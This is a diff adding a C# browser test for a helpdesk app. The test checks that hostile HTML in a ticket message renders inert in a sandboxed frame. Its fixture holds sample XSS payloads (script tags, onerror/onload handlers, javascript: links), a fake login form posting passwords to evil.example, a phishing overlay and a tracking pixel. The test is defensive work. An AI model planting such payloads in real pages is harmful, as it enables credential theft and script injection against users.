@@ -1,0 +1,72 @@
+using Rapport.BrowserTests.Infrastructure;
+using Rapport.Features.Agents;
+
+namespace Rapport.BrowserTests.Features.Tickets;
+
+/// <summary>A message written to attack the agent's browser renders inert: no script, no handler, no javascript: link,
+/// no page-covering CSS, and no remote image (tracking pixel) until the agent asks for images.</summary>
+public abstract class HostileMessageTests(BrowserApp app, Chromium chromium) : PageTests(app, chromium)
+{
+    [Fact]
+    public async Task TicketPage_WithHostileHtml_RendersInertAndHoldsBackRemoteImages()
+    {
+        var pixel = $"{App.BaseAddress.ToString().TrimEnd('/')}/health/live?pixel={Guid.NewGuid():N}";
+        var html = $$"""
+            <p>Hello, please see below.</p>
+            <script>window.top.pwned = 'script';</script>
+            <img src="x" onerror="window.top.pwned = 'onerror'">
+            <a id="js-link" href="javascript:window.top.pwned='link'">Click me</a>
+            <svg onload="window.top.pwned='svg'"><circle r="5" /></svg>
+            <iframe src="javascript:window.top.pwned='frame'"></iframe>
+            <form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
+            <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">Your session expired</div>
+            <style>body { display: none } .composer { display: none !important }</style>
+            <img src="{{pixel}}" width="1" height="1" alt="">
+            """;
+        var ticket = await Factory.OpenTicketAsync("Hostile " + Guid.NewGuid().ToString("N")[..8], $"evil+{Guid.NewGuid():N}@example.org", html: html);
+        var agent = await Factory.CreateAgentAsync(AgentRoles.Agent);
+        var page = await NewPageAsync();
+        var pixelRequests = 0;
+        // Counted when the request completes: the frame's policy stops a held-back image before it leaves the browser.
+        page.RequestFinished += (_, request) =>
+        {
+            if (request.Url.Contains("pixel=", StringComparison.Ordinal))
+            {
+                Interlocked.Increment(ref pixelRequests);
+            }
+        };
+        var dialogs = 0;
+        page.Dialog += (_, dialog) => { Interlocked.Increment(ref dialogs); _ = dialog.DismissAsync(); };
+        await BrowserApp.SignInAsync(page, agent);
+
+        await page.GotoAsync($"/tickets/{ticket.Id}");
+        await BrowserApp.WaitForLiveAsync(page);
+        var frame = page.Locator("iframe.message-html").First;
+        await Assertions.Expect(frame).ToBeVisibleAsync();
+        (await frame.GetAttributeAsync("sandbox"))!.ShouldNotContain("allow-scripts");
+        var content = frame.ContentFrame;
+        await Assertions.Expect(content.GetByText("Hello, please see below.")).ToBeVisibleAsync();
+        await content.Locator("#js-link, a:has-text('Click me')").First.ClickAsync(new() { Force = true, Timeout = 2_000 }).ContinueWith(_ => { });
+        await page.WaitForTimeoutAsync(500);
+
+        (await page.EvaluateAsync<string?>("() => window.pwned ?? null")).ShouldBeNull();
+        dialogs.ShouldBe(0);
+        pixelRequests.ShouldBe(0);
+        // The overlay and the style tricks stay inside the frame: the workspace's own composer is still there and usable.
+        await Assertions.Expect(page.Locator("#draft")).ToBeVisibleAsync();
+        await page.Locator("#draft").FillAsync("Still usable");
+
+        // Remote images load only when the agent asks.
+        await page.GetByRole(AriaRole.Button, new() { Name = "Show images" }).ClickAsync();
+        for (var i = 0; i < 50 && Volatile.Read(ref pixelRequests) == 0; i++)
+        {
+            await page.WaitForTimeoutAsync(100);
+        }
+        pixelRequests.ShouldBeGreaterThan(0);
+        (await page.EvaluateAsync<string?>("() => window.pwned ?? null")).ShouldBeNull();
+    }
+}
+
+public sealed class HostileMessageTests_Sqlite(SqliteBrowserApp app, Chromium chromium) : HostileMessageTests(app, chromium), IClassFixture<SqliteBrowserApp>;
+
+public sealed class HostileMessageTests_Postgres(PostgresBrowserApp app, Chromium chromium) : HostileMessageTests(app, chromium), IClassFixture<PostgresBrowserApp>;
